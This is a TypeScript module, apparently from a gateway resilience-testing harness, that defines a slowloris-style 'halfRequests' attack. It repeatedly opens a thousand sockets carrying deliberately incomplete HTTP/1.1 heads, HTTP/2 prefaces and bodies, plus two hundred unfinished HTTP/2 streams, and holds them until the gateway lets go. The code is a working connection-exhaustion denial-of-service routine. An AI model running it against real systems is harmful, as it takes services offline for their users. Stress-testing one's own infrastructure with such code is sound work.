import { type Attack, openSession, openSocket, type Target } from "../attack.ts";
import { untilLetGo } from "../held.ts";

/**
 * Connections that never finish: half a head, half a body, half a preface, nothing at all; ten times as many as allowed. They
 * are held until the gateway closes them, and then there are as many again.
 */
export const halfRequests: Attack = async (target, signal) => {
  let rounds = 0;
  while (!signal.aborted) {
    await hold(target);
    rounds++;
  }
  return `${rounds} times ${connections} connections, of which the gateway has let go each time`;
};

const connections = 1_000;

const beginnings = [
  "",
  "GET /v1/pro",
  "PRI * HT",
  "POST /v1/sessions HTTP/1.1\r\nHost: shop\r\nContent-Length: 9\r\n\r\n{",
];

async function hold(target: Target): Promise<void> {
  // First, for its place among those that an address may have.
  const session = openSession(target);
  for (let n = 0; n < 200; n++) {
    const stream = session.request({ ":method": "POST", ":path": "/v1/sessions" }, { endStream: false });
    stream.on("error", () => {});
    stream.write("{");
  }
  const sockets = Array.from({ length: connections }, (_, index) => {
    const socket = openSocket(target);
    socket.write(beginnings[index % beginnings.length] ?? "");
    return socket;
  });
  await Promise.all(sockets.map(connectedOrRefused));
  await untilLetGo(target);
  for (const socket of sockets) {
    socket.destroy();
  }
  session.destroy();
}

function connectedOrRefused(socket: ReturnType<typeof openSocket>): Promise<void> {
  return new Promise((resolve) => {
    socket.once("connect", () => resolve());
    socket.once("close", () => resolve());
  });
}
